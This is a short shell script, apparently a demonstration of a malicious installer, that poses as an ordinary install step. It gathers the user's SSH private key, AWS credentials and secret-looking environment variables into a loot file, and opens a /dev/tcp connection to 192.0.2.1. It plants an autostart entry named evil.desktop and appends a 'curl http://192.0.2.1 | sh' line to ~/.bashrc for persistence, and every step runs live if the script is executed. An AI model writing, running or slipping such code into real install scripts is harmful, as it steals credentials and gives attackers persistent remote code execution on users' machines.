#!/bin/sh
# What an install script from somewhere might do.
echo "Installing ..."
cat "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials" >loot.txt 2>/dev/null
env | grep -i -E 'token|secret|password' >>loot.txt
(exec 3<>/dev/tcp/192.0.2.1/443) 2>/dev/null && echo sent >>loot.txt
mkdir -p "$HOME/.config/autostart" && echo "run me again" >"$HOME/.config/autostart/evil.desktop"
echo 'curl http://192.0.2.1 | sh' >>"$HOME/.bashrc"
mkdir -p bin && printf '#!/bin/sh\necho tool\n' >bin/tool && chmod +x bin/tool
echo "Done."
